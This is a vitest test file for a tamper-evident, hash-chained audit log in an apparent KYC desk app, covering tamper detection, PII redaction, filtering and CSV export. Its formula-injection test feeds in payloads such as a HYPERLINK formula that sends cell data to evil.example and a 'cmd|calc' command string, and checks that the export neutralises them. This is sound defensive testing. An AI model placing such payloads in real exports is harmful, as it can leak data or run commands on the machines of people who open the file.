import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AUDIT_ACTIONS, AUDIT_HEAD_KEY, AuditLog, GENESIS_HASH, entryHash, type AuditAction, type AuditDetails } from '../../electron/audit/audit-log';
import type { Store } from '../../electron/store/database';
import { AppFailure } from '../../shared/errors';
import { maskMobile, maskPan } from '../../shared/record/masking';
import { makeTempDir } from '../support/temp-dir';
import { openTestStore } from '../support/test-store';

let temp: ReturnType<typeof makeTempDir>;
let dir: string;
let store: Store;
let audit: AuditLog;
let now: number;

const START = Date.parse('2026-11-22T10:00:00.000Z');
const MINUTE = 60_000;
const ASHA = { id: 'op_asha', name: 'Asha Verma' };
const RAVI = { id: 'op_ravi', name: 'Ravi Kumar' };

beforeEach(async () => {
  temp = makeTempDir();
  dir = `${temp.dir}/store`;
  store = (await openTestStore(dir)).store;
  now = START;
  // Each entry one minute after the one before.
  audit = new AuditLog(store, () => {
    const at = new Date(now);
    now += MINUTE;
    return at;
  });
});
afterEach(async () => {
  await store.close();
  temp.remove();
});

/** Entries 1..n, each a stand-alone event. */
function appendMany(n: number): void {
  for (let i = 1; i <= n; i++) audit.record({ actor: i % 2 ? ASHA : RAVI, action: 'record-edit', subject: `KD00000000000${i}`, details: { n: i, field: 'city' } });
}

const rawRow = (seq: number) => store.get('SELECT * FROM audit_log WHERE seq = ?', [seq])!;

/** Tamper with the table directly, as someone with the database file might. */
function tamper(sql: string, params: Array<string | number> = []): void {
  store.write(() => store.run(sql, params));
}

/** Recompute an entry's own hash after changing it, as a smarter tamperer would. */
function rehash(seq: number): void {
  const row = rawRow(seq);
  const hash = entryHash({
    seq,
    at: String(row.at),
    operatorId: row.operator_id === null ? null : String(row.operator_id),
    operatorName: row.operator_name === null ? null : String(row.operator_name),
    action: String(row.action),
    subject: row.subject === null ? null : String(row.subject),
    details: row.details === null ? null : (JSON.parse(String(row.details)) as AuditDetails),
    prevHash: String(row.prev_hash),
  });
  tamper('UPDATE audit_log SET hash = ? WHERE seq = ?', [hash, seq]);
}

/** The export read back cell for cell, by csv-parse (as a spreadsheet would, BOM and all). */
const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true }) as string[][];

describe('audit log: appending', () => {
  it('builds a hash chain from 64 zeros, each entry linked to the one before, and keeps the head', () => {
    appendMany(4);
    const rows = store.all('SELECT * FROM audit_log ORDER BY seq');
    expect(rows.map((r) => r.seq)).toEqual([1, 2, 3, 4]);
    expect(rows[0]!.prev_hash).toBe(GENESIS_HASH);
    for (let i = 1; i < rows.length; i++) expect(rows[i]!.prev_hash).toBe(rows[i - 1]!.hash);
    for (const row of rows) expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(new Set(rows.map((r) => r.hash)).size).toBe(4);
    expect(rows[1]).toMatchObject({ at: '2026-11-22T10:01:00.000Z', operator_id: 'op_ravi', operator_name: 'Ravi Kumar', action: 'record-edit', subject: 'KD000000000002' });
    // Canonical details: keys sorted whatever order the caller used.
    expect(rows[1]!.details).toBe('{"field":"city","n":2}');
    expect(JSON.parse(String(store.get('SELECT value FROM settings WHERE key = ?', [AUDIT_HEAD_KEY])!.value))).toEqual({ seq: 4, hash: rows[3]!.hash });
  });

  it('hashes the canonical serialisation: the same entry with details keys in another order has the same hash', () => {
    const fields = { seq: 1, at: '2026-11-22T10:00:00.000Z', operatorId: 'op', operatorName: 'N', action: 'lock', subject: null, prevHash: GENESIS_HASH };
    const a = entryHash({ ...fields, details: { b: 1, a: 'x', c: null } });
    const b = entryHash({ ...fields, details: { c: null, a: 'x', b: 1 } });
    expect(a).toBe(b);
    expect(entryHash({ ...fields, details: { b: 2, a: 'x', c: null } })).not.toBe(a);
    expect(entryHash({ ...fields, details: null, seq: 2 })).not.toBe(entryHash({ ...fields, details: null }));
  });

  it('writes the entry in the caller’s transaction: rolled back with it, and durable with it', async () => {
    expect(() =>
      store.write(() => {
        audit.append({ actor: ASHA, action: 'record-approve', subject: 'KD0000000000AA' });
        throw new AppFailure('CONFLICT', 'approval refused half-way');
      }),
    ).toThrow('half-way');
    expect(store.all('SELECT seq FROM audit_log')).toEqual([]);
    expect(store.get('SELECT value FROM settings WHERE key = ?', [AUDIT_HEAD_KEY])).toBeUndefined();

    store.write(() => audit.append({ actor: ASHA, action: 'record-approve', subject: 'KD0000000000AA' }));
    await store.close();
    store = (await openTestStore(dir)).store;
    expect(new AuditLog(store).verify()).toEqual({ ok: true, entries: 1 });
    expect(store.get('SELECT action, subject FROM audit_log WHERE seq = 1')).toEqual({ action: 'record-approve', subject: 'KD0000000000AA' });
  });

  it('refuses an append outside store.write, and writes nothing', () => {
    expect(() => audit.append({ actor: ASHA, action: 'sign-in' })).toThrow(/inside Store\.write/);
    expect(store.all('SELECT seq FROM audit_log')).toEqual([]);
    // The refused call left no transaction open behind it.
    audit.record({ actor: ASHA, action: 'sign-in' });
    expect(audit.verify()).toEqual({ ok: true, entries: 1 });
  });

  it('refuses an action that is not in AUDIT_ACTIONS', () => {
    expect(() => audit.record({ actor: ASHA, action: 'drop-table' as AuditAction })).toThrow(AppFailure);
    expect(AUDIT_ACTIONS).toContain('retention-purge');
    expect(store.all('SELECT seq FROM audit_log')).toEqual([]);
  });

  it('redacts PII in details and subject before storing it (and hashes what it stored)', () => {
    audit.record({
      actor: ASHA,
      action: 'record-edit',
      subject: 'edit for ABCPE1234F',
      details: {
        reference: 'KD0000000000AB',
        pan: 'ABCPE1234F',
        mobile: '9876543210',
        mobileAsNumber: 9876543210,
        note: 'customer abcpe1234f rang from +91 98765 43210, mail asha@example.in',
        panMasked: maskPan('ABCPE1234F'),
        mobileMasked: maskMobile('9876543210'),
        fields: 3,
        approved: true,
        reason: null,
      },
    });
    const raw = store.get('SELECT subject, details FROM audit_log WHERE seq = 1')!;
    const text = `${String(raw.subject)} ${String(raw.details)}`;
    expect(text).not.toMatch(/ABCPE1234F/i);
    expect(text).not.toContain('9876543210');
    expect(text).not.toContain('98765');
    expect(text).not.toContain('asha@example.in');
    expect(raw.subject).toBe('edit for [PAN]');
    expect(JSON.parse(String(raw.details))).toEqual({
      reference: 'KD0000000000AB',
      pan: '[PAN]',
      mobile: '[MOBILE]',
      mobileAsNumber: '[MOBILE]',
      note: 'customer [PAN] rang from [MOBILE], mail [EMAIL]',
      panMasked: '••••••234F',
      mobileMasked: '•••••••210',
      fields: 3,
      approved: true,
      reason: null,
    });
    expect(audit.verify()).toEqual({ ok: true, entries: 1 });
  });
});

describe('audit log: verify', () => {
  it('is ok on an empty log and on an intact one', () => {
    expect(audit.verify()).toEqual({ ok: true, entries: 0 });
    appendMany(6);
    expect(audit.verify()).toEqual({ ok: true, entries: 6 });
  });

  it.each([
    ['details', `UPDATE audit_log SET details = '{"field":"pan","n":3}' WHERE seq = 3`],
    ['the operator', `UPDATE audit_log SET operator_id = 'op_other', operator_name = 'Someone Else' WHERE seq = 3`],
    ['the time', `UPDATE audit_log SET at = '2026-11-21T10:00:00.000Z' WHERE seq = 3`],
    ['the action', `UPDATE audit_log SET action = 'record-approve' WHERE seq = 3`],
    ['the subject', `UPDATE audit_log SET subject = NULL WHERE seq = 3`],
    ['details into something that is not JSON', `UPDATE audit_log SET details = 'not json' WHERE seq = 3`],
  ])('reports the entry whose %s was changed behind its back', (_what, sql) => {
    appendMany(5);
    tamper(sql);
    expect(audit.verify()).toEqual({ ok: false, entries: 5, firstBrokenSeq: 3, reason: 'entry 3 was changed after it was written' });
  });

  it('reports a deleted middle entry as missing', () => {
    appendMany(5);
    tamper('DELETE FROM audit_log WHERE seq = 3');
    expect(audit.verify()).toEqual({ ok: false, entries: 4, firstBrokenSeq: 3, reason: 'entry 3 is missing' });
  });

  it('reports several deleted entries in a row', () => {
    appendMany(6);
    tamper('DELETE FROM audit_log WHERE seq IN (2, 3, 4)');
    expect(audit.verify()).toMatchObject({ ok: false, firstBrokenSeq: 2, reason: 'entries 2 to 4 are missing' });
  });

  it('reports a deleted first entry', () => {
    appendMany(3);
    tamper('DELETE FROM audit_log WHERE seq = 1');
    expect(audit.verify()).toMatchObject({ ok: false, firstBrokenSeq: 1, reason: 'entry 1 is missing' });
  });

  it('detects the tail cut off — which a chain alone cannot — by the head kept in settings', () => {
    appendMany(5);
    tamper('DELETE FROM audit_log WHERE seq = 5');
    // The remaining chain 1..4 is perfectly consistent in itself.
    expect(audit.verify()).toEqual({ ok: false, entries: 4, firstBrokenSeq: 5, reason: 'entry 5 is missing (the log was last written at entry 5)' });
  });

  it('detects the whole log deleted', () => {
    appendMany(3);
    tamper('DELETE FROM audit_log');
    expect(audit.verify()).toMatchObject({ ok: false, entries: 0, firstBrokenSeq: 1, reason: expect.stringMatching(/^entries 1 to 3 are missing/) });
  });

  it('keeps a cut-off tail visible after the next append instead of reusing the missing number', () => {
    appendMany(5);
    tamper('DELETE FROM audit_log WHERE seq IN (4, 5)');
    audit.record({ actor: ASHA, action: 'sign-out' });
    expect(store.get('SELECT MAX(seq) AS seq FROM audit_log')!.seq).toBe(6);
    expect(audit.verify()).toMatchObject({ ok: false, firstBrokenSeq: 4, reason: 'entries 4 to 5 are missing' });
  });

  it('detects the head removed', () => {
    appendMany(3);
    tamper('DELETE FROM settings WHERE key = ?', [AUDIT_HEAD_KEY]);
    expect(audit.verify()).toMatchObject({ ok: false, firstBrokenSeq: 4, reason: expect.stringContaining('after entry 3 may have been removed') });
  });

  it('detects an entry added behind its back at the end', () => {
    appendMany(3);
    const last = rawRow(3);
    const forged = { seq: 4, at: '2026-11-22T11:00:00.000Z', operatorId: 'op_x', operatorName: 'X', action: 'record-approve', subject: 'KD1', details: null, prevHash: String(last.hash) };
    tamper('INSERT INTO audit_log (seq, at, operator_id, operator_name, action, subject, details, prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, NULL, ?, ?)', [
      4,
      forged.at,
      forged.operatorId,
      forged.operatorName,
      forged.action,
      forged.subject,
      forged.prevHash,
      entryHash(forged),
    ]);
    expect(audit.verify()).toMatchObject({ ok: false, entries: 4, firstBrokenSeq: 4, reason: expect.stringMatching(/^entry 4 was not written by KYC Desk/) });
  });

  it('detects an entry changed and rehashed when the next entry was not fixed', () => {
    appendMany(5);
    tamper(`UPDATE audit_log SET details = '{"field":"pan","n":3}' WHERE seq = 3`);
    rehash(3);
    expect(audit.verify()).toEqual({ ok: false, entries: 5, firstBrokenSeq: 4, reason: 'entry 4 does not follow entry 3' });
  });

  it('detects the last entry changed and rehashed, by the head', () => {
    appendMany(3);
    tamper(`UPDATE audit_log SET subject = 'KD999' WHERE seq = 3`);
    rehash(3);
    expect(audit.verify()).toEqual({ ok: false, entries: 3, firstBrokenSeq: 3, reason: 'entry 3 was changed after it was written' });
  });

  it('detects two entries swapped', () => {
    appendMany(4);
    tamper('UPDATE audit_log SET seq = 100 WHERE seq = 2');
    tamper('UPDATE audit_log SET seq = 2 WHERE seq = 3');
    tamper('UPDATE audit_log SET seq = 3 WHERE seq = 100');
    expect(audit.verify()).toMatchObject({ ok: false, entries: 4, firstBrokenSeq: 2, reason: 'entry 2 was changed after it was written' });
  });

  it('detects a first entry that does not start from zeros', () => {
    appendMany(2);
    tamper(`UPDATE audit_log SET prev_hash = ? WHERE seq = 1`, ['f'.repeat(64)]);
    rehash(1);
    expect(audit.verify()).toMatchObject({ ok: false, firstBrokenSeq: 1, reason: 'entry 1 does not start the log' });
  });
});

describe('audit log: list', () => {
  beforeEach(() => {
    // 10:00 sign-in Asha, 10:01 edit Asha, 10:02 sign-in Ravi, 10:03 approve Ravi, 10:04 sign-out Asha, 10:05 system purge
    audit.record({ actor: ASHA, action: 'sign-in' });
    audit.record({ actor: ASHA, action: 'record-edit', subject: 'KD0000000000A1' });
    audit.record({ actor: RAVI, action: 'sign-in' });
    audit.record({ actor: RAVI, action: 'record-approve', subject: 'KD0000000000A1' });
    audit.record({ actor: ASHA, action: 'sign-out' });
    audit.record({ actor: null, action: 'retention-purge', details: { records: 0 } });
  });

  it('pages newest first with the total', () => {
    const first = audit.list({ page: 1, pageSize: 4 });
    expect(first.total).toBe(6);
    expect(first.items.map((e) => e.seq)).toEqual([6, 5, 4, 3]);
    expect(audit.list({ page: 2, pageSize: 4 }).items.map((e) => e.seq)).toEqual([2, 1]);
    expect(audit.list({ page: 3, pageSize: 4 })).toEqual({ items: [], total: 6 });
    expect(first.items[0]).toEqual({
      seq: 6,
      at: '2026-11-22T10:05:00.000Z',
      operatorId: null,
      operatorName: null,
      action: 'retention-purge',
      subject: null,
      details: { records: 0 },
      prevHash: first.items[1]!.hash,
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it('filters by action, operator and time range ([from, to)), together with paging', () => {
    expect(audit.list({ action: 'sign-in', page: 1, pageSize: 10 }).items.map((e) => e.seq)).toEqual([3, 1]);
    expect(audit.list({ operatorId: 'op_asha', page: 1, pageSize: 10 }).items.map((e) => e.seq)).toEqual([5, 2, 1]);
    expect(audit.list({ operatorId: 'op_asha', action: 'sign-in', page: 1, pageSize: 10 }).items.map((e) => e.seq)).toEqual([1]);
    expect(audit.list({ from: '2026-11-22T10:01:00.000Z', to: '2026-11-22T10:04:00.000Z', page: 1, pageSize: 10 }).items.map((e) => e.seq)).toEqual([4, 3, 2]);
    // Offsets are instants: 15:33 IST is 10:03 UTC.
    expect(audit.list({ from: '2026-11-22T15:33:00+05:30', page: 1, pageSize: 10 }).items.map((e) => e.seq)).toEqual([6, 5, 4]);
    const paged = audit.list({ operatorId: 'op_asha', page: 2, pageSize: 2 });
    expect(paged).toMatchObject({ total: 3 });
    expect(paged.items.map((e) => e.seq)).toEqual([1]);
    expect(audit.list({ action: 'record-delete', page: 1, pageSize: 10 })).toEqual({ items: [], total: 0 });
  });

  it('refuses a bad page or date', () => {
    expect(() => audit.list({ page: 0, pageSize: 10 })).toThrow(AppFailure);
    expect(() => audit.list({ page: 1, pageSize: 0 })).toThrow(AppFailure);
    expect(() => audit.list({ page: 1.5, pageSize: 10 })).toThrow(AppFailure);
    expect(() => audit.list({ from: 'yesterday', page: 1, pageSize: 10 })).toThrow(/not a date/);
  });
});

describe('audit log: CSV export', () => {
  it('writes a header and one row per entry, oldest first, that read back cell for cell', () => {
    audit.record({ actor: ASHA, action: 'sign-in' });
    audit.record({ actor: { id: 'op_2', name: 'Verma, Asha "Ash"' }, action: 'record-edit', subject: 'line one\nline two', details: { b: 'x,y', a: 'say "hi"\r\nbye' } });
    audit.record({ actor: null, action: 'retention-purge', details: { records: 2, documents: 3 } });
    const csv = audit.exportCsv();
    const rows = readCsv(csv);
    expect(rows[0]).toEqual(['seq', 'time', 'operator', 'action', 'subject', 'details', 'hash']);
    const entries = audit.list({ page: 1, pageSize: 10 }).items.reverse();
    expect(rows.slice(1)).toEqual([
      ['1', '2026-11-22T10:00:00.000Z', 'Asha Verma (op_asha)', 'sign-in', '', '', entries[0]!.hash],
      ['2', '2026-11-22T10:01:00.000Z', 'Verma, Asha "Ash" (op_2)', 'record-edit', 'line one\nline two', '{"a":"say \\"hi\\"\\r\\nbye","b":"x,y"}', entries[1]!.hash],
      ['3', '2026-11-22T10:02:00.000Z', 'KYC Desk', 'retention-purge', '', '{"documents":3,"records":2}', entries[2]!.hash],
    ]);
    // Quoting done by csv-stringify: commas, doubled quotes and an embedded newline inside quotes.
    expect(csv).toContain('"Verma, Asha ""Ash"" (op_2)"');
    expect(csv).toContain('"line one\nline two"');
    expect(csv.startsWith('\uFEFFseq,time,operator,action,subject,details,hash\r\n')).toBe(true);
  });

  it('exports only what the filter selects', () => {
    audit.record({ actor: ASHA, action: 'sign-in' });
    audit.record({ actor: RAVI, action: 'sign-in' });
    audit.record({ actor: ASHA, action: 'sign-out' });
    const rows = readCsv(audit.exportCsv({ operatorId: 'op_asha' }));
    expect(rows.slice(1).map((r) => [r[0], r[3]])).toEqual([
      ['1', 'sign-in'],
      ['3', 'sign-out'],
    ]);
  });

  it('neutralises formula injection: cells starting with = + - @ get a leading quote', () => {
    audit.record({ actor: { id: 'op_3', name: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, action: 'operator-create', subject: '+1+cmd|calc' });
    audit.record({ actor: { id: 'op_4', name: '@SUM(1,2)' }, action: 'operator-change', subject: '-2+3' });
    audit.record({ actor: { id: 'op_5', name: '\tTabbed' }, action: 'operator-change', subject: '\uFF1D1+1' });
    const rows = readCsv(audit.exportCsv()).slice(1);
    expect(rows.map((r) => [r[2], r[4]])).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"click") (op_3)`, "'+1+cmd|calc"],
      ["'@SUM(1,2) (op_4)", "'-2+3"],
      ["'\tTabbed (op_5)", "'\uFF1D1+1"],
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  });
});
